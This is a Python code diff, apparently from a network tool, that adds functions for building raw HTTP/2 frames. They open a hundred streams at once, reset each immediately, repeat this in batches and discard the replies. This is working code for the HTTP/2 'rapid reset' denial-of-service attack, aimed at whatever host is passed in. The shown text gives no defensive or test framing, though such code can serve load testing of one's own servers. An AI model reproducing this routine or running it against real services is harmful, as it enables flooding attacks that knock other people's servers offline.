@@ -76,11 +76,36 @@ async def send_in_frames(place: str, source: str, fields: Pairs, tunnelled: byte
 
 def write_resets(fields: Pairs, number: int) -> bytes:
     """A connection over HTTP/2 on which so many streams are opened with these fields, and reset at once."""
+    return _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _reset(fields, 0, number)
+
+
+async def reset_in_frames(place: str, source: str, fields: Pairs, batches: int, pause: float) -> None:
+    """Open a hundred streams at once over HTTP/2 and reset each at once, again and again after a pause of so many
+    seconds; what is answered is read by nobody."""
+    reader, writer = await connect(place, source)
+    reading = asyncio.create_task(_read_on(reader))
+    with suppress(OSError):
+        writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
+        for batch in range(batches):
+            writer.write(_reset(fields, 100 * batch, 100))
+            await asyncio.sleep(pause)
+    reading.cancel()
+    writer.transport.abort()
+
+
+def _reset(fields: Pairs, before: int, number: int) -> bytes:
+    """So many streams, which come after others on a connection."""
     block = _write_block(fields)
-    return _PREFACE + _frame(_SETTINGS, 0, 0, b"") + b"".join(
+    return b"".join(
         _frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, block) + _frame(_RST, 0, stream, _CANCEL)
-        for stream in range(1, 2 * number, 2)
-    )  # fmt: skip
+        for stream in range(2 * before + 1, 2 * (before + number), 2)
+    )
+
+
+async def _read_on(reader: asyncio.StreamReader) -> None:
+    with suppress(OSError):
+        while await reader.read(65536):
+            pass
 
 
 async def connect(place: str, source: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
